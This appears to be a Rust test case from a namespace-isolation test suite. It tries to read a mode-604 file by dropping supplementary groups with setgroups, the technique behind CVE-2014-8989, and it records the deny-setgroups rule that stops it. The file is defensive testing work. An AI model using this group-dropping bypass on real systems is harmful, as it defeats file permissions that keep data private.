//! Gains by losing: a file whose group may *not* read it (mode 604) opens for
//! whoever leaves that group. An ordinary user could do that in a user
//! namespace where setgroups(2) is allowed.

use std::fs::File;
use std::io::ErrorKind;

use nix::unistd::setgroups;

use crate::attack::{
    Argument, Arguments, Attack, OrStopped, Outcome, StoppedBy, Try,
};
use crate::outside;

pub const ATTACK: Attack = Attack {
    name: "drop-group",
    tries: "leave a group to read a file that the group may not read",
    stopped: StoppedBy::Step(5),
    rule: "whoever maps their own group must write deny to setgroups first",
    source: "user_namespaces(7), CVE-2014-8989",
    arguments: &[Argument::new(
        "FILE",
        "/mnt/secret",
        "a file of mode 604 and a group of yours",
    )],
    run,
};

fn run(arguments: &Arguments) -> Try {
    let file = arguments.text("FILE")?;
    match File::open(file).map_err(|error| error.kind()) {
        Ok(_) => Ok(Outcome::CannotTry(format!(
            "{file} can be read as it is: no group keeps us out"
        ))),
        Err(ErrorKind::PermissionDenied) => {
            setgroups(&[]).or_stopped("setgroups([])")?;
            outside::read(file)
        }
        Err(kind) => Ok(Outcome::CannotTry(format!("{file}: {kind}"))),
    }
}
